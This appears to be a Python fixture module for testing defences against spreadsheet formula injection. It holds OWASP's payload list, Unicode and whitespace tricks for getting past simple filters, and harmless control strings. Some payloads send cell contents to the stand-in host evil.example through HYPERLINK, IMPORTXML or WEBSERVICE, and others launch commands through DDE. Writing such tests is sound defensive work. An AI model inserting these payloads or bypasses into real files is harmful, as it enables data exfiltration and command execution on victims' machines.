"""Text that spreadsheet programs could execute: OWASP's list, and ways around simple defences."""

from __future__ import annotations

OWASP = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
]
AROUND = [
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1f-1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹢1",
    "﹣1",
    "﹦1",
    "﹫SUM(1)",
    " \t＝1",
]
FORMULAS = OWASP + AROUND
HARMLESS = ["Ana Silva", "1+1", "a=b", "'=1", "(-1)", "“=1”", "–1", "☎ +351", "", " ", "5-a-side"]
